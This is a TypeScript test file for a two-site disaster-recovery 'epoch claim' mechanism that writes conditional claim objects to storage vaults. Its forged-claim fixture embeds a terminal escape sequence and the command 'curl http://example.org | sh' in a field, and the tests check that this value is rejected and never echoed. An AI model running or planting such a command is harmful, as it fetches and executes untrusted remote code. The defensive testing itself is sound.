import assert from "node:assert/strict";
import { type ObjectStore, VaultError } from "../../../../provider/clients/buckets/objectStore";
import { runActions } from "../../../../provider/drivers/action";
import { EpochClaims } from "../../../../provider/engine/epochClaims";
import type { ClaimStep } from "../../../../provider/engine/claims";
import type { Vault } from "../../../../provider/vaults/appVault";

/** A bucket that honours conditional writes. */
function bucket(objects = new Map<string, string>()): ObjectStore {
    return {
        putIfAbsent: (key, body) => {
            const absent = !objects.has(key);
            if (absent) {
                objects.set(key, body);
            }
            return Promise.resolve(absent ? "written" : "exists");
        },
        put: (key, body) => Promise.resolve(void objects.set(key, body)),
        get: (key) => Promise.resolve(objects.get(key)),
        folders: () => Promise.resolve([]),
        names: () => Promise.resolve([]),
        remove: (key) => Promise.resolve(void objects.delete(key)),
    };
}

/** Claims of west, where the vaults that are named answer; which were opened, with how many milliseconds. */
function claimsAtWest(answering: Readonly<Record<string, ObjectStore>>) {
    const opened: [string, number][] = [];
    const open = (site: string, budget: number): Promise<Vault> => {
        opened.push([site, budget]);
        const store = answering[site];
        return store === undefined
            ? Promise.reject(new VaultError(`vault-${site} did not answer in ${budget / 1000} s`, true, true))
            : Promise.resolve({ name: `vault-${site}`, prefix: "", store });
    };
    const vaults = { east: "vault-east", west: "vault-west" };
    return { opened, claims: new EpochClaims({ application: "shop", site: "west", vaults }, open) };
}

const takeover: ClaimStep = {
    do: "claim",
    epoch: 2,
    began: "takeover",
    vaults: [
        { site: "west", required: true },
        { site: "east", required: false },
    ],
};

describe("the claim of an epoch", () => {
    it("is announced in the order in which both sites ask, with the condition of a vault that may be dead", () => {
        const { actions } = claimsAtWest({}).claims.claim(takeover);
        assert.deepEqual(
            actions.map(({ call, when, effect }) => [call, when, effect]),
            [
                ["PUT vault-east trident-dr/shop/epoch-2.json, if none is there", "if it answers", "write"],
                ["PUT vault-west trident-dr/shop/epoch-2.json, if none is there", undefined, "write"],
            ],
        );
    });

    it("gives a dead site's vault two seconds, and is made without it", async () => {
        const { claims, opened } = claimsAtWest({ west: bucket() });
        const lines: string[] = [];
        const { actions, guarded } = claims.claim(takeover);
        await runActions(actions, (line) => lines.push(line), "east");
        assert.deepEqual(opened, [
            ["east", 2_000],
            ["west", 15_000],
        ]);
        assert.deepEqual(lines, [
            actions[0]!.call,
            "vault-east did not answer in 2 s; epoch 2 is claimed without it",
            actions[1]!.call,
        ]);
        assert.equal(guarded(), undefined);
    });

    it("does not wait again for a vault that did not answer when claims were read", async () => {
        const { claims, opened } = claimsAtWest({ west: bucket() });
        await claims.read(2);
        await claims.read(3);
        await runActions(claims.claim(takeover).actions, () => undefined, "east");
        assert.deepEqual(
            opened.filter(([site]) => site === "east"),
            [["east", 2_000]],
        );
    });

    it("asks the vault that is required, whatever it did before", async () => {
        const { claims, opened } = claimsAtWest({});
        await claims.read(2);
        await assert.rejects(runActions(claims.claim(takeover).actions, () => undefined, "east"));
        assert.deepEqual(opened.at(-1), ["west", 15_000]);
    });

    it("fails where the vault that is required does not answer", async () => {
        const { actions } = claimsAtWest({ east: bucket() }).claims.claim(takeover);
        await assert.rejects(
            runActions(actions, () => undefined, "east"),
            /epoch 2 cannot be claimed: vault-west did not answer in 15 s\. Nothing was done in its name/,
        );
    });

    it("is refused with the next commands where the other site was first", async () => {
        const claim = { application: "shop", epoch: 2, began: "back", site: "east", time: "2026-11-22T03:00:00Z" };
        const taken = new Map([["trident-dr/shop/epoch-2.json", JSON.stringify(claim)]]);
        const { claims, opened } = claimsAtWest({ east: bucket(taken), west: bucket() });
        await assert.rejects(
            runActions(claims.claim(takeover).actions, () => undefined, "east"),
            /epoch 2 was begun by east \(back\).*Nothing was done in its name at west\. Run pulumi up --stack east, then pulumi preview --stack west/,
        );
        assert.deepEqual(
            opened.map(([site]) => site),
            ["east"],
        );
    });
});

describe("the trial whether servers guard claims", () => {
    it("is announced call by call, and leaves a dead site's vault out", async () => {
        const objects = new Map<string, string>();
        const { claims } = claimsAtWest({ west: bucket(objects) });
        const { actions, guarded } = claims.probe();
        const key = "trident-dr/shop/probe.json";
        const callsTo = (vault: string) => [
            [`PUT ${vault} ${key}, if none is there: to try whether its server heeds that`, "if it answers"],
            [`PUT ${vault} ${key}, if none is there: once more`, "if its server ignores that"],
            [`DELETE ${vault} ${key}`, "if it was written"],
        ];
        assert.deepEqual(
            actions.map(({ call, when }) => [call, when]),
            [...callsTo("vault-east"), ...callsTo("vault-west")],
        );
        await runActions(actions, () => undefined, "west");
        assert.deepEqual([guarded(), objects.size], [true, 0]);
    });

    it("finds one server that ignores the condition among two", async () => {
        const deaf: ObjectStore = { ...bucket(), putIfAbsent: () => Promise.resolve("written") };
        const { claims } = claimsAtWest({ east: deaf, west: bucket() });
        const { actions, guarded } = claims.probe();
        const lines: string[] = [];
        await runActions(actions, (line) => lines.push(line), "west");
        assert.equal(guarded(), false);
        assert.equal(lines.filter((line) => /vault-east ignores the condition/.test(line)).length, 1);
    });

    it("leaves unknown what no vault tells", async () => {
        const { actions, guarded } = claimsAtWest({}).claims.probe();
        await runActions(actions, () => undefined, "west");
        assert.equal(guarded(), undefined);
    });
});

describe("what somebody else put in the place of a claim", () => {
    const key = "trident-dr/shop/epoch-2.json";
    const forged = JSON.stringify({ site: "\u001b[2Jeast; curl http://example.org | sh" });

    it("is told where it lies, and takes nobody's place", async () => {
        const { claims } = claimsAtWest({ west: bucket(new Map([[key, forged]])), east: bucket() });
        assert.deepEqual(await claims.read(2), [
            { epoch: 2, site: "east", place: `object ${key} (vault vault-east)`, is: "absent" },
            {
                epoch: 2,
                site: "west",
                place: `object ${key} (vault vault-west)`,
                is: { notAuthentic: "it is not a claim of an epoch" },
            },
        ]);
    });

    it("is not looked at where the vault does not answer", async () => {
        assert.deepEqual(await claimsAtWest({}).claims.read(2), []);
    });

    it("ends a run that did not see it, with nothing of its text", async () => {
        const { claims } = claimsAtWest({ west: bucket(new Map([[key, forged]])), east: bucket() });
        await assert.rejects(
            runActions(claims.claim(takeover).actions, () => undefined, "west"),
            (error: Error) => {
                assert.match(error.message, /something that no site of this pair wrote: object .*vault-west/);
                assert.doesNotMatch(error.message, /curl|\u001b/);
                return true;
            },
        );
    });

    it("is replaced where the plan says so: a call more, which is announced", async () => {
        const objects = new Map([[key, forged]]);
        const { claims } = claimsAtWest({ west: bucket(objects), east: bucket() });
        const { actions } = claims.claim({ ...takeover, replaces: [{ site: "west", why: "it is no claim" }] });
        assert.deepEqual(
            actions.map(({ call }) => call),
            [
                `PUT vault-east ${key}, if none is there`,
                `DELETE vault-west ${key}, which is not a claim of this pair: it is no claim`,
                `PUT vault-west ${key}, if none is there`,
            ],
        );
        await runActions(actions, () => undefined, "west");
        assert.equal((JSON.parse(objects.get(key)!) as { site: string }).site, "west");
    });

    it("is left alone when a claim has taken its place meanwhile", async () => {
        const claim = { application: "shop", epoch: 2, began: "back", site: "east", time: "2026-11-22T03:00:00Z" };
        const objects = new Map([[key, JSON.stringify(claim)]]);
        const { claims } = claimsAtWest({ west: bucket(objects), east: bucket() });
        const { actions } = claims.claim({ ...takeover, replaces: [{ site: "west", why: "it is no claim" }] });
        await assert.rejects(
            runActions(actions, () => undefined, "west"),
            /epoch 2 was begun by east \(back\)/,
        );
        assert.equal(objects.get(key), JSON.stringify(claim));
    });
});
